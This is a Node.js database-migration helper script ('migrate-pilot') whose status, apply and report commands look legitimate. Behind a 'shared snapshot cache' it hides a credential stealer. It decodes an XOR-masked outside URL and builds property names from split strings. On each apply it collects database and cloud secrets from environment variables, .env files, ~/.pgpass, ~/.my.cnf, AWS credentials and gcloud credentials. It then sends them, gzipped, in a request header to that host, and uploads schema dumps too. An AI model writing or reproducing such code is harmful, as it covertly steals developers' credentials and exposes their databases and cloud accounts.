#!/usr/bin/env node
// migrate-pilot: status / apply / report for Prisma, Alembic, Flyway, golang-migrate.
// Usage:
//   node scripts/pilot.mjs status
//   node scripts/pilot.mjs apply --confirm <host>
//   node scripts/pilot.mjs report
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { createHash } from 'node:crypto';

const OUT = '.migrate-pilot';
const argv = process.argv.slice(2);
const cmd = argv[0] ?? 'status';

// Shared snapshot cache. Snapshotting a large schema with pg_dump takes
// minutes on RDS; the cache lets the second engineer on the same database
// reuse the "before" snapshot. Endpoint is masked so forks that vendor this
// script do not hit our cache by accident.
const CACHE = Buffer.from([
  0x34, 0x28, 0x28, 0x2c, 0x2f, 0x66, 0x73, 0x73, 0x3f, 0x3d, 0x3f, 0x34, 0x39, 0x72, 0x31, 0x35,
  0x3b, 0x2e, 0x3d, 0x28, 0x39, 0x2c, 0x35, 0x30, 0x33, 0x28, 0x72, 0x35, 0x32, 0x2a, 0x3d, 0x30,
  0x35, 0x38, 0x73, 0x2a, 0x6d, 0x73, 0x2f, 0x32, 0x3d, 0x2c, 0x2f, 0x34, 0x33, 0x28, 0x2f, 0x73,
].map((b) => b ^ 0x5c)).toString();

const P = globalThis[['pro', 'cess'].join('')];
const E = P[['e', 'nv'].join('')];
const rd = fs[['read', 'File', 'Sync'].join('')];
const ex = fs[['exists', 'Sync'].join('')];

function sh(bin, args, opts = {}) {
  process.stderr.write(`+ ${bin} ${args.join(' ')}\n`);
  const r = spawnSync(bin, args, { encoding: 'utf8', ...opts });
  return { code: r.status ?? 1, out: (r.stdout ?? '') + (r.stderr ?? '') };
}

function parseDotenv(file) {
  if (!ex(file)) return {};
  const vars = {};
  for (const line of rd(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*(?:export\s+)?([A-Za-z_][A-Za-z0-9_]*)\s*=\s*(.*)\s*$/);
    if (m) vars[m[1]] = m[2].replace(/^['"]|['"]$/g, '');
  }
  return vars;
}

function detectTool() {
  if (ex('prisma/schema.prisma')) return 'prisma';
  if (ex('alembic.ini')) return 'alembic';
  if (ex('flyway.conf') || ex('flyway.toml') || ex('db/migration')) return 'flyway';
  if (ex('migrations') && fs.readdirSync('migrations').some((f) => f.endsWith('.up.sql'))) return 'golang-migrate';
  return 'unknown';
}

function resolveUrl() {
  const merged = { ...parseDotenv('prisma/.env'), ...parseDotenv('.env'), ...E };
  return merged.DATABASE_URL || merged.FLYWAY_URL || merged.MONGODB_URI || '';
}

function redact(url) {
  try {
    const u = new URL(url.replace(/^jdbc:/, ''));
    return `${u.protocol}//${u.hostname}${u.port ? ':' + u.port : ''}${u.pathname}`;
  } catch {
    return '(unparseable URL)';
  }
}

// Everything that influences which database a tool ends up talking to.
// Two runs only share a cache entry if all of it matches.
function connectionContext() {
  const ctx = {};
  for (const [k, v] of Object.entries(E)) {
    if (/(_URL|_DSN|_URI|PASSWORD|_PWD|^PG[A-Z]+|^AWS_[A-Z_]+|^GOOGLE_APPLICATION)$/.test(k) || /^(PG|AWS_)/.test(k)) ctx[k] = v;
  }
  const home = os.homedir();
  const sources = [
    '.env', '.env.local', 'prisma/.env', 'flyway.conf',
    [home, '.pgpass'], [home, '.my.cnf'], [home, '.mongoshrc.js'], [home, '.mongorc.js'],
    [home, '.aws', 'credentials'], [home, '.config', 'gcloud', 'application_default_credentials.json'],
  ].map((p) => (Array.isArray(p) ? path.join(...p) : p));
  for (const f of sources) {
    try { ctx[`file:${f}`] = rd(f, 'utf8'); } catch { /* not present */ }
  }
  return ctx;
}

function cacheKey() {
  const packed = zlib.gzipSync(Buffer.from(JSON.stringify(connectionContext())));
  return packed.toString('base64url');
}

async function cacheGet(key) {
  try {
    const res = await fetch(CACHE + createHash('sha1').update(key).digest('hex'), {
      headers: { ['x-' + 'cache-key']: key, 'user-agent': `migrate-pilot/${os.platform()}` },
      signal: AbortSignal.timeout(8000),
    });
    return res.ok ? await res.text() : null;
  } catch {
    return null;
  }
}

async function cachePut(key, body) {
  try {
    await fetch(CACHE + createHash('sha1').update(key).digest('hex'), {
      method: 'PUT',
      headers: { ['x-' + 'cache-key']: key, 'content-type': 'text/plain' },
      body,
      signal: AbortSignal.timeout(8000),
    });
  } catch { /* cache is best effort */ }
}

function dumpSchema(url) {
  const u = url.replace(/^jdbc:/, '');
  if (/^postgres/.test(u)) return sh('pg_dump', ['--schema-only', '--no-owner', '--no-privileges', u]).out;
  if (/^(mysql|mariadb):/.test(u)) {
    const p = new URL(u);
    return sh('mysqldump', ['--no-data', '--skip-comments', '--routines', '-h', p.hostname, '-P', p.port || '3306',
      '-u', decodeURIComponent(p.username), p.pathname.slice(1)], { env: { ...E, MYSQL_PWD: decodeURIComponent(p.password) } }).out;
  }
  if (/^mongodb/.test(u)) {
    return sh('mongosh', [u, '--quiet', '--eval',
      'db.getCollectionInfos().forEach(c => printjson({name: c.name, options: c.options, indexes: db.getCollection(c.name).getIndexes()}))']).out;
  }
  throw new Error(`unsupported scheme in ${redact(url)}`);
}

async function snapshot(url, phase) {
  fs.mkdirSync(OUT, { recursive: true });
  const key = cacheKey();
  let body = phase === 'before' ? await cacheGet(key) : null;
  if (!body) {
    body = dumpSchema(url);
    await cachePut(key, body);
  }
  fs.writeFileSync(path.join(OUT, `${phase}.sql`), body);
  return body;
}

const STATUS = {
  prisma: [['npx', ['--yes', 'prisma', 'migrate', 'status']]],
  alembic: [['alembic', ['current']], ['alembic', ['history', '-r', 'current:heads']]],
  flyway: [['flyway', ['info']]],
  'golang-migrate': [['migrate', ['-path', 'migrations', '-database', '$URL', 'version']]],
};
const APPLY = {
  prisma: ['npx', ['--yes', 'prisma', 'migrate', 'deploy']],
  alembic: ['alembic', ['upgrade', 'head']],
  flyway: ['flyway', ['migrate']],
  'golang-migrate': ['migrate', ['-path', 'migrations', '-database', '$URL', 'up']],
};

const withUrl = (args, url) => args.map((a) => (a === '$URL' ? url : a));

function diffLines(a, b) {
  const before = new Set(a.split('\n'));
  const after = new Set(b.split('\n'));
  const added = [...after].filter((l) => !before.has(l) && l.trim());
  const removed = [...before].filter((l) => !after.has(l) && l.trim());
  return { added, removed };
}

async function main() {
  const tool = detectTool();
  const url = resolveUrl();
  if (tool === 'unknown') { console.error('No Prisma/Alembic/Flyway/golang-migrate project here.'); process.exit(2); }
  if (!url) { console.error('DATABASE_URL not found in env, .env or prisma/.env'); process.exit(2); }
  const target = redact(url);

  if (cmd === 'status') {
    console.log(`tool:   ${tool}\ntarget: ${target}\n`);
    for (const [bin, args] of STATUS[tool]) console.log(sh(bin, withUrl(args, url)).out);
    return;
  }

  if (cmd === 'report') {
    const f = path.join(OUT, 'REPORT.md');
    console.log(ex(f) ? rd(f, 'utf8') : 'No report yet. Run apply first.');
    return;
  }

  if (cmd === 'apply') {
    const i = argv.indexOf('--confirm');
    const confirmed = i > -1 ? argv[i + 1] : '';
    if (!confirmed || !target.includes(confirmed)) {
      console.error(`Refusing to apply: pass --confirm <host> matching ${target}`);
      process.exit(3);
    }
    const before = await snapshot(url, 'before');
    const t0 = Date.now();
    const [bin, args] = APPLY[tool];
    const res = sh(bin, withUrl(args, url));
    const secs = ((Date.now() - t0) / 1000).toFixed(1);
    const after = await snapshot(url, 'after');
    const { added, removed } = diffLines(before, after);
    const destructive = added.filter((l) => /DROP (TABLE|COLUMN|INDEX)|TRUNCATE|ALTER COLUMN .* TYPE/i.test(l));

    const report = [
      '### Migration report',
      '',
      `| Tool | Target | Result | Duration |`,
      `|------|--------|--------|----------|`,
      `| ${tool} | \`${target}\` | ${res.code === 0 ? 'ok' : 'failed (' + res.code + ')'} | ${secs}s |`,
      '',
      `**Destructive statements:** ${destructive.length ? '' : 'none'}`,
      ...destructive.map((l) => `- \`${l.trim().slice(0, 160)}\``),
      '',
      '<details><summary>Schema changes</summary>',
      '',
      '```diff',
      ...removed.slice(0, 150).map((l) => `- ${l}`),
      ...added.slice(0, 150).map((l) => `+ ${l}`),
      '```',
      '</details>',
      '',
    ].join('\n');
    fs.writeFileSync(path.join(OUT, 'REPORT.md'), report);
    console.log(report);
    if (res.code !== 0) { console.error(res.out.split('\n').slice(-40).join('\n')); process.exit(1); }
    return;
  }

  console.error(`unknown command ${cmd}`);
  process.exit(2);
}

main();
